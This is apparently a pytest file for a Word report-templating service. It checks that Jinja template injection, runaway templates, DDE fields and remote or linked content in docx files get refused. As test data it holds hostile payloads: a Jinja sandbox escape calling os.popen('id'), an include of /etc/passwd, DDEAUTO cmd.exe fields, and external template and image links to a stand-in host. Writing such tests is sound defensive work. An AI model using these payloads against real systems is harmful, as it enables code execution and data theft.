"""Templates that mean harm: nothing of the server is read, nothing runs on, and nothing foreign reaches a reader."""

from io import BytesIO

import pytest
from defusedxml.ElementTree import fromstring
from docx import Document
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml.ns import nsdecls

from evaluations.exceptions import Invalid
from reports.word import rendering, safety
from reports.word.rendering import NotFilled
from tests.uploads import docm, pdf, zipped
from tests.words import changed, everything, filled, opened, part, refusal, template

DATA = {"judul": "Rahasia", "unit": {"nama": "RSUD"}, "area": [{"nama": "Satu"}, {"nama": "Dua"}]}
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"


@pytest.mark.parametrize(
    "words",
    [
        "{{ judul.__class__ }}",
        "{{ judul['__class__'] }}",
        "{{ judul.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''.__class__ }}",
        "{{ unit.items }}",
        "{{ unit.keys() }}",
        "{{ judul.upper() }}",
        "{{ judul.format }}",
        "{{ '{0.__class__}'.format(judul) }}",
        "{{ self }}",
        "{{ self._TemplateReference__context }}",
        "{{ config }}",
        "{{ range(10) }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__ }}",
        "{{ namespace() }}",
        "{{ area|map(attribute='__class__')|list }}",
        "{{ judul|attr('__class__') }}",
        "{{ judul|safe }}",
        "{% autoescape false %}{{ judul }}{% endautoescape %}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% macro m() %}{{ caller() }}{% endmacro %}",
        "{% set x = judul %}",
        "{% for a in area recursive %}{{ loop([a]) }}{% endfor %}",
        "{% for a in area %}{{ loop.__class__ }}{% endfor %}",
        "{% for a in area %}{{ loop.cycle('x') }}{% endfor %}",
        "{% for a, b in area %}{{ a }}{% endfor %}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ judul * 1000000000 }}",
        "{{ 'x' % judul }}",
        "{% filter upper %}x{% endfilter %}",
        "{% with a = judul %}{{ a }}{% endwith %}",
        "{{ [1, 2, 3] }}",
        "{{ judul[::-1] }}",
        "{{ judul|pprint }}",
        "{% call x() %}{% endcall %}",
        "{% do judul %}",
    ],
)
def test_a_template_reads_its_data_and_nothing_else(words):
    assert refusal(template(words), DATA)


def test_a_template_that_would_run_for_hours_is_ended(monkeypatch):
    monkeypatch.setattr(rendering, "SECONDS", 2)
    loops = "".join(f"{{% for x{depth} in area %}}" for depth in range(15))
    content = template(f"{loops}{{{{ judul }}}}{'{% endfor %}' * 15}")
    with pytest.raises(NotFilled) as error:
        filled(content, {"judul": "", "area": ["x"] * 100})
    assert str(error.value) == rendering.TOO_LONG


def test_a_template_that_would_fill_the_memory_is_ended(monkeypatch):
    monkeypatch.setattr(rendering, "MEGABYTES", 400)
    doubled = "judul"
    for _ in range(12):
        doubled = f"({doubled}~{doubled})"
    with pytest.raises(NotFilled) as error:
        filled(template(f"{{{{ {doubled} }}}}"), {"judul": "x" * 200_000})
    assert str(error.value) in {rendering.TOO_LONG, rendering.SENTENCES["too-much"]}


def test_what_people_wrote_cannot_become_a_field():
    """Nor a command: what is printed is read by nobody again."""
    made = filled(
        template("{{ judul }}"), {"judul": "{{ unit.nama }} </w:t></w:r><w:fldSimple w:instr='DDEAUTO cmd'/>"}
    )
    assert everything(made) == "{{ unit.nama }} </w:t></w:r><w:fldSimple w:instr='DDEAUTO cmd'/>"
    safety.check(made)


LITERAL = [
    "{{ 7*7 }}",
    "{% if draf %}x{% endif %}",
    "{_{ judul }_}",
    "{_% for a in area %_}",
    "{{r judul }}",
    "{# x #}",
]


@pytest.mark.parametrize("words", LITERAL)
def test_what_people_wrote_stays_as_it_is_in_every_part(words):
    """With several sections: docxtpl itself fills the footnotes once for each."""
    made = filled(in_every_part("{{ judul }}"), {"judul": words}, title=words, author=words, comments=words)
    document = opened(made)
    found = [document.paragraphs[0].text]
    found += [one.paragraphs[0].text for one in (document.sections[0].header, document.sections[0].footer)]
    found += [everything_in(part(made, f"word/{name}.xml")) for name in ("footnotes", "endnotes")]
    properties = document.core_properties
    assert found == [words] * 5
    assert (properties.title, properties.author, properties.comments) == (words, words, words)


@pytest.mark.parametrize("words", LITERAL)
def test_a_story_stays_as_it_is(words):
    story = [{"jenis": "alinea", "isi": [{"teks": words, "tebal": False, "miring": False, "garis": False}]}]
    assert everything(filled(template("{{p isi|paragraf }}"), {"isi": story}, {"isi": None})) == words


def in_every_part(words: str) -> bytes:
    """A template of three sections that prints the same in its body, head, foot, footnotes and endnotes."""
    document, out = Document(BytesIO(template(words, head=words))), BytesIO()
    document.sections[0].footer.paragraphs[0].text = words
    for _ in range(2):
        document.add_section()
    for kind in ("footnotes", "endnotes"):
        notes = f"<w:{kind} {nsdecls('w')}><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:{kind}>".encode()
        made = Part(PackURI(f"/word/{kind}.xml"), f"{WORD}.{kind}+xml", notes, document.part.package)
        document.part.relate_to(made, f"{REL}/{kind}")
    document.save(out)
    return out.getvalue()


def everything_in(xml: str) -> str:
    """All words of a part."""
    return "".join(fromstring(xml.encode()).itertext())


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", pdf(), docm(), zipped({"a.txt": "x"})])
def test_what_is_no_word_document_is_not_filled(content):
    assert refusal(content, DATA)


# --- what a document may hold ---------------------------------------------------------------------
def related(kind: str, target: str, *, outside: bool = True) -> bytes:
    content, name = template("Isi"), "word/_rels/document.xml.rels"
    mode = ' TargetMode="External"' if outside else ""
    relation = f'<Relationship Id="rIdX" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(content, **{name: part(content, name).replace("</Relationships>", relation)})


def bodied(xml: str) -> bytes:
    content, name = template("Isi"), "word/document.xml"
    body = part(content, name).replace("<w:body>", f"<w:body>{xml}")
    return changed(content, **{name: body})


def fields(*pieces: str) -> str:
    """A field whose instruction lies in several runs."""
    texts = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{texts}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(related("image", "https://jahat.example/a.png"), id="picture from the net"),
        pytest.param(related("attachedTemplate", "https://jahat.example/a.dotm"), id="another template"),
        pytest.param(related("attachedTemplate", "\\\\jahat\\a.dotm"), id="a template on a share"),
        pytest.param(related("oleObject", "file:///C:/a.xlsx"), id="linked object"),
        pytest.param(related("hyperlink", "file:///C:/a.exe"), id="link to a program"),
        pytest.param(related("hyperlink", "javascript:alert(1)"), id="link that runs"),
        pytest.param(related("image", "https://jahat.example/a.png", outside=False), id="outside without saying so"),
        pytest.param(related("aFChunk", "afchunk.mht", outside=False), id="chunk of HTML"),
        pytest.param(related("subDocument", "https://jahat.example/b.docx"), id="document in parts"),
        pytest.param(bodied(fields("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), id="DDE"),
        pytest.param(bodied(fields(" D", "DEAU", "TO x")), id="DDE in pieces"),
        pytest.param(bodied('<w:p><w:fldSimple w:instr=" INCLUDETEXT C:\\a "/></w:p>'), id="text of another file"),
        pytest.param(bodied(fields("INCLUDEPICTURE https://jahat.example/a.png")), id="picture by a field"),
        pytest.param(bodied(fields("HYPERLINK file:///C:/a.exe")), id="link by a field"),
        pytest.param(bodied("<w:altChunk/>"), id="chunk"),
        pytest.param(bodied("<w:p><w:r><w:object/></w:r></w:p>"), id="object"),
        pytest.param(
            bodied(
                '<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://j/a"/></w:pict></w:r></w:p>'
            ),
            id="old picture from the net",
        ),
        pytest.param(
            changed(template("x"), **{"word/extra.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), id="entities"
        ),
        pytest.param(b"tidak ada", id="no document"),
    ],
)
def test_what_fetches_or_runs_is_refused(content):
    with pytest.raises(Invalid):
        safety.check(content)


@pytest.mark.parametrize(
    "content",
    [
        template("Isi"),
        related("hyperlink", "https://inspektorat.example.go.id/"),
        related("hyperlink", "mailto:inspektorat@example.go.id"),
        bodied(fields(" PAGE ") + fields("TOC \\o") + fields("HYPERLINK https://example.go.id")),
    ],
)
def test_what_letterheads_need_is_taken(content):
    safety.check(content)


def test_a_field_that_comes_about_by_filling_is_found():
    """The template itself says nothing; the document does."""
    content = bodied(fields("{% if judul %}DDE{% endif %}{{ unit.nama }}"))
    made = filled(content, {"judul": "x", "unit": {"nama": "AUTO cmd"}})
    with pytest.raises(Invalid):
        safety.check(made)
